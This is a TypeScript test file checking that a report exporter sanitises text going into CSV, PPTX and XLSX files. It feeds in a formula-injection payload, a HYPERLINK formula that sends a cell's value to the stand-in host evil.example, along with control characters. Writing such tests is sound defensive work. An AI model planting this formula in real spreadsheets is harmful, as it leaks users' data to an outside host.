import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { SaxesParser } from 'saxes';
import { describe, expect, it } from 'vitest';
import { reportContext } from '../../src/lib/export/context';
import { render as renderCsv } from '../../src/lib/export/csv';
import { render as renderPptx } from '../../src/lib/export/pptx';
import { render as renderXlsx } from '../../src/lib/export/xlsx';
import { cleanText, spreadsheetText, xmlSafe } from '../../src/lib/export/sanitize';
import { defaultScenario, type Scenario } from '../../src/lib/scenario/document';

const LEAK = '=HYPERLINK("http://evil.example/?leak="&B5,"Click")';
const CONTROLS = 'Plan\u0000\u0007\u000b\u001b\u0085\ufffe A';

/** The default scenario with hostile text in every name a writer prints. */
function hostile(): Scenario {
	const s = defaultScenario();
	return {
		...s,
		name: `\u0000${LEAK}`,
		notes: CONTROLS,
		candidates: s.candidates.map((c, i) => ({ ...c, label: `${CONTROLS} ${i}` }))
	};
}

/** Every XML part of a package (nested packages too) parses as XML, or the test fails naming it. */
async function expectWellFormed(bytes: Uint8Array, where = ''): Promise<number> {
	const zip = await JSZip.loadAsync(bytes);
	let parts = 0;
	for (const name of Object.keys(zip.files)) {
		const file = zip.file(name);
		if (!file) continue;
		if (/\.(xml|rels)$/.test(name)) {
			const parser = new SaxesParser();
			let error: Error | undefined;
			parser.on('error', (e) => (error ??= e));
			parser.write(await file.async('string')).close();
			expect(error?.message, `${where}${name}`).toBeUndefined();
			parts++;
		} else if (name.endsWith('.xlsx')) {
			parts += await expectWellFormed(await file.async('uint8array'), `${name}/`);
		}
	}
	return parts;
}

describe('sanitize: one sanitiser for text going into files', () => {
	it.each([
		['\u0000=1', "'=1"],
		[' =1', "' =1"],
		['\u3000\uff1dSUM(A1)', "'\u3000\uff1dSUM(A1)"],
		['\uff0b1', "'\uff0b1"],
		['\uff20x', "'\uff20x"],
		['\u0007\u001b-2', "'-2"],
		['\t=1', "'\t=1"],
		['Plan A', 'Plan A'],
		['A\u0000B', 'AB']
	])('spreadsheetText(%j) → %j', (input, want) => {
		expect(spreadsheetText(input)).toBe(want);
	});

	it('removes controls, keeping tab and line breaks only in multi-line text', () => {
		expect(cleanText(CONTROLS)).toBe('Plan       A');
		expect(cleanText('a\tb\r\nc\u0000', { multiline: true })).toBe('a\tb\r\nc');
		expect(cleanText('x\ud800y')).toBe('xy');
	});

	it('drops raw and escaped XML-invalid characters, keeping valid ones', () => {
		expect(xmlSafe('<t>A\u0000&#0;&#x1b;&#9;&#xE9;B\u0085</t>')).toBe('<t>A&#9;&#xE9;B</t>');
	});
});

describe('exports with hostile text in every name', () => {
	const ctx = reportContext(hostile(), new Date('2026-01-01T00:00:00Z'));

	it('CSV: a name starting with U+0000 "=" is written with the guard', async () => {
		const file = await renderCsv(ctx);
		const text = new TextDecoder().decode(file.bytes);
		// eslint-disable-next-line no-control-regex -- control characters are what is checked
		expect(text).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f]/);
		// Every cell (quoted or not) that holds the link starts with the guard.
		const cells = text.split(/\r\n/).flatMap((l) => l.match(/(^|,)"?'?=HYPERLINK/g) ?? []);
		expect(cells.length).toBeGreaterThan(0);
		for (const c of cells) expect(c.replace(/^,/, '')).toMatch(/^"?'=HYPERLINK/);
	});

	it('PPTX: every XML part of the deck and its embedded workbooks parses', async () => {
		const file = await renderPptx(ctx);
		expect(await expectWellFormed(file.bytes)).toBeGreaterThan(20);
		const zip = await JSZip.loadAsync(file.bytes);
		const slide1 = await zip.file('ppt/slides/slide1.xml')!.async('string');
		expect(slide1).toContain('=HYPERLINK');
	});

	it('XLSX: every XML part parses and the workbook opens with the names readable', async () => {
		const file = await renderXlsx(ctx);
		expect(await expectWellFormed(file.bytes)).toBeGreaterThan(5);
		const wb = new ExcelJS.Workbook();
		await wb.xlsx.load(file.bytes.slice().buffer as ArrayBuffer);
		const texts: string[] = [];
		wb.eachSheet((ws) =>
			ws.eachRow((row) => row.eachCell((c) => void texts.push(String(c.text ?? ''))))
		);
		expect(texts.some((t) => t.includes('Plan') && t.includes(' A'))).toBe(true);
	});
});
